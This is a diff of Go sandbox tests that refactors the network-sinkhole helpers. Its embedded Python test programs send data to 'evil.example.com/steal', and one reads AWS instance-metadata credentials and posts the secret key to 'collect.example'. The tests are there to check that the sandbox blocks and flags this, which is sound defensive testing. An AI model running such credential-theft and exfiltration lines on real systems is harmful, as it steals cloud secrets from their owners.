@@ -24,23 +24,7 @@ import (
 // set, adjusts the Spec (AllowDegraded, say).
 func Sinkhole(t *testing.T, b moat.Backend, mod func(*moat.Spec)) *moat.Result {
 	t.Helper()
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer ln.Close()
-	var accepted atomic.Int32
-	go func() {
-		for {
-			c, err := ln.Accept()
-			if err != nil {
-				return
-			}
-			accepted.Add(1)
-			c.Close()
-		}
-	}()
-	port := ln.Addr().(*net.TCPAddr).Port
+	port, accepted := HostListener(t, "127.0.0.1:0")
 	prog := fmt.Sprintf(`
 import json, socket, ssl, urllib.request
 r = urllib.request.urlopen("http://evil.example.com/steal?x=1", data=b"secret", timeout=20)
@@ -78,21 +62,7 @@ try:
 except OSError:
     pass
 `, sinkLabel, port, port)
-	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
-	defer cancel()
-	spec := &moat.Spec{
-		Args:    []string{"prog.py"},
-		Files:   map[string][]byte{"prog.py": []byte(prog)},
-		Network: moat.NetworkSinkhole,
-		Limits:  moat.Limits{Timeout: 60 * time.Second},
-	}
-	if mod != nil {
-		mod(spec)
-	}
-	res, err := b.Run(ctx, spec)
-	if err != nil {
-		t.Fatalf("run: %v", err)
-	}
+	res := runSinkhole(t, b, &moat.Spec{Args: []string{"prog.py"}, Files: map[string][]byte{"prog.py": []byte(prog)}}, mod)
 	dump := func() string {
 		var b strings.Builder
 		fmt.Fprintf(&b, "status %s exit %d\nstdout:\n%s\nstderr:\n%s\nnetwork events:\n", res.Status, res.ExitCode, res.Stdout, res.Stderr)
@@ -140,7 +110,7 @@ except OSError:
 	if !took {
 		t.Errorf("no credential-access finding on the sink's evidence: %+v", res.Findings)
 	}
-	if n := accepted.Load(); n != 0 {
+	if n := accepted(); n != 0 {
 		t.Errorf("the host's 127.0.0.1:%d got %d connections from a sinkholed sandbox", port, n)
 	}
 	layer := false
@@ -200,20 +170,7 @@ creds = json.loads(get(base + role, **{"X-aws-ec2-metadata-token": tok}))
 print("aws", creds["AccessKeyId"][:4], len(creds["SecretAccessKey"]))
 urllib.request.urlopen("http://collect.example/k", data=creds["SecretAccessKey"].encode(), timeout=20)
 `
-	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
-	defer cancel()
-	spec := &moat.Spec{
-		Args:    []string{"-c", prog},
-		Network: moat.NetworkSinkhole,
-		Limits:  moat.Limits{Timeout: 60 * time.Second},
-	}
-	if mod != nil {
-		mod(spec)
-	}
-	res, err := b.Run(ctx, spec)
-	if err != nil {
-		t.Fatalf("run: %v", err)
-	}
+	res := runSinkhole(t, b, &moat.Spec{Args: []string{"-c", prog}}, mod)
 	if res.Status != moat.StatusExited || res.ExitCode != 0 {
 		t.Fatalf("the program failed: status %s exit %d\n%s\n%s", res.Status, res.ExitCode, res.Stdout, res.Stderr)
 	}
@@ -259,4 +216,45 @@ urllib.request.urlopen("http://collect.example/k", data=creds["SecretAccessKey"]
 		}
 	}
 	return res
+}
+
+// runSinkhole runs spec (its program) with the sinkhole network and a
+// minute's timeout, adjusted by mod; a run that fails to start fails t.
+func runSinkhole(t *testing.T, b moat.Backend, spec *moat.Spec, mod func(*moat.Spec)) *moat.Result {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	spec.Network, spec.Limits.Timeout = moat.NetworkSinkhole, 60*time.Second
+	if mod != nil {
+		mod(spec)
+	}
+	res, err := b.Run(ctx, spec)
+	if err != nil {
+		t.Fatalf("run: %v", err)
+	}
+	return res
+}
+
+// HostListener listens on the host's TCP addr for t's life and counts
+// the connections it accepts (each closed at once): a sandbox's
+// connection that must never arrive. It returns the port and the count.
+func HostListener(t *testing.T, addr string) (int, func() int32) {
+	t.Helper()
+	ln, err := net.Listen("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ln.Close() })
+	var accepted atomic.Int32
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			accepted.Add(1)
+			c.Close()
+		}
+	}()
+	return ln.Addr().(*net.TCPAddr).Port, accepted.Load
 }
